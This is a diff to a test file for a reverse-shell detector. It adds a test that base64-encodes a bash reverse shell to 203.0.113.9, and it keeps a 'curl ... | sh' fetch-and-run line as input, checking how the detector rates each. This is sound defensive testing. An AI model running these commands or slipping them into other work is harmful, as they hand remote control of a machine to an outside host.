@@ -24,6 +24,16 @@ test.each([
   expect(severityFor(reverseShell, typed(line))).toBe(severity)
 })
 
+test('commands in base 64 are read, never run', () => {
+  const hidden = Buffer.from('bash -i >& /dev/tcp/203.0.113.9/443 0>&1\n').toString('base64')
+  const match = matchOf(reverseShell, typed(`bash -c {echo,${hidden}}|{base64,-d}|{bash,-i}`))
+  expect([match?.severity, match?.addresses, match?.title.slice(0, 88)]).toEqual([
+    'high',
+    ['203.0.113.9'],
+    'A shell connected to another machine: bash -i >& /dev/tcp/203.0.113.9/443 0>&1, hidden i',
+  ])
+})
+
 test('a program of Windows is told by others', () => {
   expect(severityFor(reverseShell, command('cmd.exe /c "curl http://203.0.113.9/x | sh"'))).toBe('')
 })
